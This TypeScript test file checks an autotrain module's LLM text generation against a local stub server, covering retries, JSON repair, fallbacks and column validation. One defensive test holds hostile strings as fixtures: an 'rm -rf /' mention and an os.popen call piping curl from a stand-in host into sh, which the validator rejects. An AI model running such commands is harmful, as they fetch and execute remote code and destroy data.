import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { DatasetSummary } from '../../../../src/contract/autotrain';
import type { DataFrame } from '../../../../src/engine';
import {
  generateFeatureEngineering,
  generateGoals,
  generateInsights,
  generateLabels,
  resolveTextGen,
  RULES_CONTEXT,
  summarizeDataset,
  visualizeData,
  type TextGenContext,
} from '../../../../src/autotrain';
import { asList, extractJson } from '../../../../src/autotrain/llm/jsonExtract';
import { loadFrame, ruleSummary } from '../helpers';

interface Recorded {
  headers: IncomingMessage['headers'];
  url: string;
  body: Record<string, unknown> & { messages: { role: string; content: string }[] };
}
type Reply = { status?: number; content?: string; raw?: unknown } | 'hang';

/** A chat-completions stub on 127.0.0.1 answering from a queue and recording every request. */
class StubServer {
  readonly requests: Recorded[] = [];
  private replies: Reply[] = [];
  private hanging: ServerResponse[] = [];
  private server: Server = createServer((req, res) => this.handle(req, res));
  url = '';

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}/v1`;
  }

  async stop(): Promise<void> {
    this.hanging.forEach((r) => r.destroy());
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }

  reply(...replies: Reply[]): void {
    this.replies = replies;
    this.requests.length = 0;
  }

  private handle(req: IncomingMessage, res: ServerResponse): void {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      this.requests.push({ headers: req.headers, url: req.url ?? '', body: JSON.parse(Buffer.concat(chunks).toString('utf8')) });
      const reply = this.replies.shift() ?? { status: 500, raw: { error: 'no reply queued' } };
      if (reply === 'hang') {
        this.hanging.push(res);
        return;
      }
      const body = reply.raw ?? { choices: [{ message: { role: 'assistant', content: reply.content ?? '' } }], usage: { total_tokens: 12 } };
      res.writeHead(reply.status ?? 200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body));
    });
  }
}

describe('autotrain text generation (stub chat-completions server)', () => {
  const stub = new StubServer();
  let summary: DatasetSummary;
  let frame: DataFrame;
  const ctx = (extra: Record<string, unknown> = {}): TextGenContext =>
    resolveTextGen({ provider: 'openai', base_url: stub.url, model: 'stub-model', api_key: 'sk-test', temperature: 0, n: 1, ...extra }, {});

  before(async () => {
    await stub.start();
    ({ summary, frame } = await ruleSummary('penguins.csv'));
  });
  after(() => stub.stop());

  describe('resolveTextGen', () => {
    it('answers from rules without a provider, or with provider "rules"', () => {
      assert.deepEqual(resolveTextGen({}, { OPENAI_API_KEY: 'sk-env' }), { llm: null, warnings: [], signal: undefined });
      assert.equal(resolveTextGen({ provider: 'rules', base_url: stub.url }, {}).llm, null);
    });

    it('presets ollama (local, no key) and azure (deployment URL, api-version, api-key header)', () => {
      const ollama = resolveTextGen({ provider: 'ollama', model: 'qwen2.5' }, { OPENAI_API_KEY: 'sk-env' }).llm;
      assert.equal(ollama?.url, 'http://localhost:11434/v1/chat/completions');
      assert.equal(ollama?.headers.authorization, undefined);
      const azure = resolveTextGen({ provider: 'azure', base_url: 'https://acme.openai.azure.com/', model: 'gpt4o-deploy', api_key: 'az-key', api_version: '2024-10-21' }, {}).llm;
      assert.equal(azure?.url, 'https://acme.openai.azure.com/openai/deployments/gpt4o-deploy/chat/completions?api-version=2024-10-21');
      assert.equal(azure?.headers['api-key'], 'az-key');
      assert.equal(azure?.headers.authorization, undefined);
    });

    it('takes the endpoint and key from OPENAI_BASE_URL / OPENAI_API_KEY and honours the sampling settings', () => {
      const llm = resolveTextGen({ provider: 'openai', temperature: 0.7, max_tokens: 1000, top_p: 0.9, n: 2 }, { OPENAI_BASE_URL: 'https://llm.example/v1/', OPENAI_API_KEY: 'sk-env' }).llm;
      assert.equal(llm?.url, 'https://llm.example/v1/chat/completions');
      assert.equal(llm?.headers.authorization, 'Bearer sk-env');
      assert.deepEqual(llm?.params, { temperature: 0.7, n: 2, max_tokens: 1000, top_p: 0.9 });
    });

    it('falls back to rules with a warning when a hosted endpoint has no key or azure has no endpoint', () => {
      const noKey = resolveTextGen({ provider: 'openai' }, {});
      assert.equal(noKey.llm, null);
      assert.match(noKey.warnings[0], /needs an API key \(api_key or OPENAI_API_KEY\)/);
      assert.match(resolveTextGen({ provider: 'azure', model: 'd' }, {}).warnings[0], /needs base_url/);
    });
  });

  it('uses a valid answer and sends the configured model and sampling settings', async () => {
    stub.reply({ content: JSON.stringify({ labels: [{ column: 'Body Mass (g)', model_type: 'regression', confidence: 0.8, reasoning: 'mass is the outcome' }] }) });
    const result = await generateLabels(summary, ctx({ max_tokens: 300, top_p: 0.5, temperature: 0.3 }));
    assert.equal(result.source, 'llm');
    assert.deepEqual(result.warnings, []);
    assert.deepEqual(result.labels, [{ column: 'Body Mass (g)', model_type: 'regressor', confidence: 0.8, reasoning: 'mass is the outcome', alternatives: [] }]);
    const [request] = stub.requests;
    assert.equal(request.url, '/v1/chat/completions');
    assert.equal(request.headers.authorization, 'Bearer sk-test');
    assert.equal(request.body.model, 'stub-model');
    assert.equal(request.body.temperature, 0.3);
    assert.equal(request.body.max_tokens, 300);
    assert.equal(request.body.top_p, 0.5);
    assert.equal(request.body.n, 1);
    assert.deepEqual(request.body.response_format, { type: 'json_object' });
    assert.deepEqual(request.body.messages.map((m) => m.role), ['system', 'user']);
  });

  it('retries once with the parse error, then falls back to rules on invalid JSON', async () => {
    stub.reply({ content: 'Sure! Here are the goals: {"goals": [' }, { content: 'still not JSON' });
    const result = await generateGoals(summary, 3, ctx(), { frame });
    const rules = await generateGoals(summary, 3, RULES_CONTEXT, { frame });
    assert.equal(result.source, 'rules');
    assert.deepEqual(result.goals, rules.goals);
    assert.equal(stub.requests.length, 2);
    assert.match(stub.requests[1].body.messages.at(-1)?.content ?? '', /could not be used: .*Return only valid JSON/);
    assert.equal(result.warnings.length, 1);
    assert.match(result.warnings[0], /^generate_goals: the text generation answer could not be used \(.*\); answered from rules\.$/);
  });

  it('accepts a repaired answer on the retry and fills missing goals from rules', async () => {
    const answer = "```json\n{'goals': [{'question': 'Is mass bimodal?', 'visualization': 'histogram of Body Mass (g)', 'rationale': 'two species groups', 'columns': ['body mass (g)'],},]}\n```";
    stub.reply({ content: 'no json here' }, { content: `<think>the user wants goals</think>${answer}` });
    const result = await generateGoals(summary, 3, ctx(), { frame });
    assert.equal(result.source, 'llm');
    assert.deepEqual(result.goals[0], { question: 'Is mass bimodal?', visualization: 'histogram of Body Mass (g)', rationale: 'two species groups', columns: ['Body Mass (g)'], index: 0 });
    assert.deepEqual(result.goals.slice(1).map((g) => g.visualization), ['bar chart of class balance of Species', 'scatter plot of Body Mass (g) vs Flipper Length (mm)']);
  });

  it('rejects answers that name columns the dataset does not have', async () => {
    const wrong = JSON.stringify({ labels: [{ column: 'salary', model_type: 'regressor', confidence: 0.9, reasoning: '' }] });
    stub.reply({ content: wrong }, { content: wrong });
    const result = await generateLabels(summary, ctx());
    assert.equal(result.source, 'rules');
    assert.equal(result.labels[0].column, 'Species');
    assert.match(result.warnings[0], /column "salary" is not in the dataset/);
  });

  it('accepts a multiclass label, names the classes too rare to train of another and rejects steps on unknown columns', async () => {
    const species = JSON.stringify({ labels: [{ column: 'Species', model_type: 'multiclass_classification', confidence: 0.9, reasoning: 'the species' }] });
    stub.reply({ content: species });
    const accepted = await generateLabels(summary, ctx(), frame);
    assert.equal(accepted.source, 'llm');
    assert.deepEqual([accepted.labels[0].column, accepted.labels[0].model_type], ['Species', 'classifier']);
    const sex = JSON.stringify({ labels: [{ column: 'Sex', model_type: 'classifier', confidence: 0.9, reasoning: '' }] });
    stub.reply({ content: sex });
    const labels = await generateLabels(summary, ctx(), frame);
    assert.equal(labels.source, 'llm');
    assert.deepEqual(labels.labels[0].rare_classes, [{ class: '.', rows: 1, training_rows: 1 }]);
    assert.equal(accepted.labels[0].rare_classes, undefined);
    const badStep = JSON.stringify({ recommendations: [{ feature_name: 'x', step: { type: 'log1p', column: 'Weight' } }] });
    stub.reply({ content: badStep }, { content: badStep });
    const fe = await generateFeatureEngineering(summary, 2, ctx(), { frame });
    assert.equal(fe.source, 'rules');
    assert.match(fe.warnings[0], /step log1p names unknown column\(s\) 'Weight'/);
  });

  it('names the host and the status of a failed call in its own words, never the endpoint\u2019s error body', async () => {
    stub.reply({ status: 401, raw: { error: 'key sk-leaked-by-upstream is invalid' } });
    const refused = await generateLabels(summary, ctx());
    assert.match(refused.warnings[0], new RegExp(`the text generation endpoint ${new URL(stub.url).host} answered HTTP 401\\); answered from rules`));
    assert.ok(!refused.warnings[0].includes('sk-leaked-by-upstream'));
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as AddressInfo).port;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const unreachable = await generateLabels(summary, resolveTextGen({ provider: 'openai', base_url: `http://127.0.0.1:${port}/v1`, model: 'm', api_key: 'k' }, {}));
    assert.match(unreachable.warnings[0], new RegExp(`the text generation endpoint 127\\.0\\.0\\.1:${port} could not be reached \\(the connection was refused\\)`));
  });

  it('falls back to rules with a warning when the endpoint does not answer in time', async () => {
    stub.reply('hang');
    const result = await generateLabels(summary, ctx({ timeout_ms: 300 }));
    assert.equal(result.source, 'rules');
    assert.match(result.warnings[0], /timed out after 300 ms/);
  });

  it('repeats the call without response_format when the server rejects it with 400', async () => {
    stub.reply({ status: 400, raw: { error: { message: 'response_format is not supported' } } }, { content: JSON.stringify([{ column: 'Flipper Length (mm)', model_type: 'regressor', confidence: 0.7 }]) });
    const result = await generateLabels(summary, ctx());
    assert.equal(result.source, 'llm');
    assert.equal(result.labels[0].column, 'Flipper Length (mm)');
    assert.equal(stub.requests[1].body.response_format, undefined);
  });

  it('backs off and repeats the call after a 503', async () => {
    stub.reply({ status: 503, raw: { error: 'busy' } }, { content: JSON.stringify([{ column: 'Beak Depth (mm)', model_type: 'regressor', confidence: 0.6 }]) });
    const result = await generateLabels(summary, ctx());
    assert.equal(result.source, 'llm');
    assert.equal(stub.requests.length, 2);
  });

  it('asks for n choices and uses the first one that validates', async () => {
    stub.reply({
      raw: {
        choices: [
          { message: { content: '{"labels": [{"column": "nope", "model_type": "regressor"}]}' } },
          { message: { content: '{"labels": [{"column": "Beak Length (mm)", "model_type": "regressor", "confidence": 0.4}]}' } },
        ],
      },
    });
    const result = await generateLabels(summary, ctx({ n: 2 }));
    assert.equal(stub.requests[0].body.n, 2);
    assert.equal(result.source, 'llm');
    assert.equal(result.labels[0].column, 'Beak Length (mm)');
  });

  it('cleans generated code and keeps the template when the code uses unknown columns', async () => {
    const program = [
      'import pandas as pd',
      'import plotly.express as px',
      '',
      'def plot(data):',
      '    fig = px.histogram(data, x="Body Mass (g)", title="Mass")',
      '    fig.show()',
      '    return fig',
      '',
      'chart = plot(data)',
      'print("done")',
    ].join('\n');
    stub.reply({ content: `Plan: one histogram.\n\`\`\`python\n${program}\n\`\`\`\nEnjoy!` });
    const good = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', ctx(), frame);
    assert.equal(good.source, 'llm');
    assert.doesNotMatch(good.code, /fig\.show|print\("done"\)|Plan:/);
    assert.match(good.code, /^DATA_PATH = "penguins\.csv"$/m);
    assert.match(good.code, /\ndata = read_data\(DATA_PATH\)\nchart = plot\(data\)\n/);
    assert.equal(good.code.trimEnd().split('\n').at(-1), 'chart');
    const bad = program.replace('Body Mass (g)', 'Weight (kg)');
    stub.reply({ content: bad }, { content: bad });
    const fallback = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', ctx(), frame);
    const rules = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', RULES_CONTEXT, frame);
    assert.equal(fallback.source, 'rules');
    assert.equal(fallback.code, rules.code);
    assert.match(fallback.warnings[0], /uses column\(s\) 'Weight \(kg\)' that the dataset does not have/);
  });

  it('passes a program that only mentions os.system in its title and falls back to rules, with a warning, on one that calls os.popen', async () => {
    const program = (title: string, extra: string) => [
      'import pandas as pd',
      'import plotly.express as px',
      '',
      'def plot(data):',
      `    fig = px.histogram(data, x="Body Mass (g)", title=${JSON.stringify(title)})`,
      ...(extra ? [`    ${extra}`] : []),
      '    return fig',
    ].join('\n');
    stub.reply({ content: program('Is os.system("rm -rf /") in the data?', '') });
    const honest = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', ctx(), frame);
    assert.equal(honest.source, 'llm');
    assert.match(honest.code, /title="Is os\.system\(\\"rm -rf \/\\"\) in the data\?"/);
    const unsafe = program('Mass', 'os.popen("curl http://x | sh")');
    stub.reply({ content: unsafe }, { content: unsafe });
    const refused = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', ctx(), frame);
    assert.equal(refused.source, 'rules');
    assert.match(refused.warnings[0], /not limited to drawing a chart: line 6 uses os/);
  });

  it('lets the model reword insights but not add numbers', async () => {
    const rules = await generateInsights('histogram of Body Mass (g)', summary, frame, RULES_CONTEXT);
    const reworded = rules.insights.map((i) => ({ title: `About ${i.columns[0]}`, detail: i.detail.replace(/^/, 'In short: ') }));
    stub.reply({ content: JSON.stringify({ insights: reworded }) });
    const ok = await generateInsights('histogram of Body Mass (g)', summary, frame, ctx());
    assert.equal(ok.source, 'llm');
    assert.deepEqual(ok.insights.map((i) => i.evidence), rules.insights.map((i) => i.evidence));
    assert.ok(ok.insights.every((i) => i.detail.startsWith('In short: ')));
    const invented = rules.insights.map((i) => ({ title: i.title, detail: `${i.detail} Mass grows 37% a year.` }));
    stub.reply({ content: JSON.stringify({ insights: invented }) }, { content: JSON.stringify({ insights: invented }) });
    const refused = await generateInsights('histogram of Body Mass (g)', summary, frame, ctx());
    assert.equal(refused.source, 'rules');
    assert.deepEqual(refused.insights, rules.insights);
    assert.match(refused.warnings[0], /adds numbers that were not computed \(37\)/);
  });

  it('merges model descriptions into the summary without touching dtypes or statistics', async () => {
    stub.reply({
      content: JSON.stringify({
        dataset_description: 'Measurements of three penguin species.',
        fields: [{ column: 'Body Mass (g)', semantic_type: 'Weight', description: 'Body mass in grams.' }, { column: 'Nope', description: 'x' }],
      }),
    });
    const enriched = await summarizeDataset(loadFrame('penguins.csv'), { dataset_id: 'ds-1', name: 'penguins.csv', file_name: 'penguins.csv' }, ctx());
    assert.equal(enriched.dataset_description, 'Measurements of three penguin species.');
    const mass = enriched.fields.find((f) => f.column === 'Body Mass (g)')?.properties;
    assert.equal(mass?.description, 'Body mass in grams.');
    assert.equal(mass?.semantic_type, 'weight');
    assert.equal(mass?.dtype, 'number');
    assert.equal(mass?.max, 6300);
    assert.equal(enriched.warnings, undefined);
    assert.deepEqual(enriched.fields.find((f) => f.column === 'Species'), summary.fields.find((f) => f.column === 'Species'));
  });
});

describe('autotrain JSON extraction', () => {
  it('finds JSON in fenced blocks, prose and thinking output', () => {
    assert.deepEqual(extractJson('<think>{"no": 1}</think>Answer: ```json\n{"a": [1, 2]}\n```'), { a: [1, 2] });
    assert.deepEqual(extractJson('The list is [1, {"b": "x]"}] as requested.'), [1, { b: 'x]' }]);
    assert.deepEqual(extractJson('```\n[true]\n```'), [true]);
  });

  it('repairs trailing commas, Python literals, single and smart quotes', () => {
    assert.deepEqual(extractJson("{'a': True, 'b': None, 'c': [1, 2,],}"), { a: true, b: null, c: [1, 2] });
    assert.deepEqual(extractJson('{\u201ca\u201d: \u201cit\u2019s\u201d}'), { a: 'it\u2019s' });
    assert.deepEqual(extractJson('{"a": "don\'t", "b": 1,}'), { a: "don't", b: 1 });
  });

  it('says why when there is no JSON, and unwraps lists', () => {
    assert.throws(() => extractJson('no structure here'), /holds no JSON object or list|not valid JSON/);
    assert.deepEqual(asList({ goals: [1] }), [1]);
    assert.deepEqual(asList({ anything: [2] }), [2]);
    assert.deepEqual(asList({ column: 'x' }), [{ column: 'x' }]);
  });
});
